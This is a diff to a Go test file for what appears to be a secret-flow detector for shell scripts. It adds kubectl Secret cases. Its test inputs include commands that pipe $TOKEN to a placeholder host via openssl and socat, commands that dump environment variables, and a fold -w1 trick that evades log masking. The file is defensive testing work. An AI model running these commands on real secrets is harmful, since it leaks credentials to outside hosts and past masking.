@@ -78,6 +78,8 @@ func TestFlowsOfScripts(t *testing.T) {
 		{"all variables by jq", "jq -n env", []string{"log by jq env KEY masked=yes at jq"}},
 		{"what node prints", "node -p 'process.env.TOKEN'\nnode -p 'process.env.TOKEN.length'", []string{"log by print KEY masked=yes likely at TOKEN"}},
 		{"a client of TLS", "echo \"$TOKEN\" | openssl s_client -quiet -connect h.example:443\necho \"$TOKEN\" | socat - TCP:h.example:80", []string{"network by openssl KEY host=h.example at $TOKEN", "network by socat KEY host=h.example at $TOKEN"}},
+		{"a Secret that is printed", "kubectl create secret generic x --from-literal=a=$TOKEN --dry-run=client -o yaml", []string{"argv by kubectl KEY at $TOKEN", "log by kubectl KEY +base64 masked=yes at kubectl"}},
+		{"a Secret that is applied", "kubectl create secret generic x --from-literal=a=$TOKEN --dry-run=client -o yaml | kubectl apply -f -\nkubectl get pods -o yaml", []string{"argv by kubectl KEY at $TOKEN"}},
 		{"a quoted heredoc", "cat <<'EOF'\nkey $TOKEN\nEOF", nil},
 		{"a herestring", "cat <<< \"$TOKEN\"", []string{"log by cat KEY masked=yes at $TOKEN"}},
 		{"lines that are folded", `echo $TOKEN | fold -w1`, []string{"log by fold KEY +substring masked=no at fold"}},
